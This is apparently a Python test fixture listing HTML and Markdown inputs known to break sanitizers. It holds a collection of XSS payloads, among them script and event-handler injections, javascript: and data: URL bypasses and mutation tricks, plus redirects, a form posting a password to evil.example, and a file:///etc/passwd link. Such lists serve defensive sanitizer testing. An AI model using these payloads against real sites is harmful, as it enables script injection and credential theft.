"""Markup that has broken other products."""

HTML = """
<script>alert(1)</script>
"><script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)><circle/></svg>
<svg><script>alert(1)</script></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<a href="javascript:alert(1)">a</a>
<a href="JaVaScRiPt&colon;alert(1)">a</a>
<a href="java&#10;script:alert(1)">a</a>
<a href=" &#1; javascript:alert(1)">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>
<a href="vbscript:msgbox(1)">a</a>
<a href="//evil.example/">a</a>
<a href="/\\evil.example/">a</a>
<a href="https://ok.example/" onclick="alert(1)" style="position:fixed;inset:0" id="x" name="y">a</a>
<p style="background:url(javascript:alert(1))" class="card">p</p>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<link rel=stylesheet href=https://evil.example/x.css>
<style>@import 'https://evil.example/x.css';</style>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<textarea></textarea><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<x onmouseover=alert(1) tabindex=1 autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<a href="https://ok.example/"><img src=x onerror=alert(1)></a>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>
<b/onclick=alert(1)>b</b>
<h1/onclick=alert(1)>h</h1>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&lt;p&gt;&lt;img src=x onerror=alert(1)&gt;&lt;/p&gt;
""".strip().split("\n")

MARKDOWN = """
[a](javascript:alert(1))
[a](JAVASCRIPT:alert(1))
[a](java\tscript:alert(1))
[a](&#106;avascript:alert(1))
[a](javascript&colon;alert(1))
[a](data:text/html,<script>alert(1)</script>)
[a](data:image/svg+xml;base64,AAAA)
[a](data:image/png;base64,AAAA)
[a](vbscript:msgbox(1))
[a](file:///etc/passwd)
[a](mailto:a@b.example)
[a](//evil.example)
[a](/\\evil.example)
[a](\\\\evil.example)
[a](https:evil.example)
[a](https://ok.example "x\\" onmouseover=alert(1) y=\\"")
[a](<https://ok.example/"onmouseover=alert(1)>)
![x](javascript:alert(1))
![x](https://ok.example/a.png "\\"onerror=alert(1)")
![" onerror="alert(1)](https://ok.example/x)
<javascript:alert(1)>
<https://ok.example/"><script>alert(1)</script>>
[x]: javascript:alert(1)
[x][x]
https://ok.example/"><script>alert(1)</script>
https://ok.example/'onmouseover='alert(1)
www.ok.example/"onload="alert(1)
@"><script>alert(1)</script>
`<script>alert(1)</script>`
    <script>alert(1)</script>
```<script>alert(1)</script>
# <img src=x onerror=alert(1)>
> <svg/onload=alert(1)>
| <script>alert(1)</script> |
""".strip("\n").split("\n")
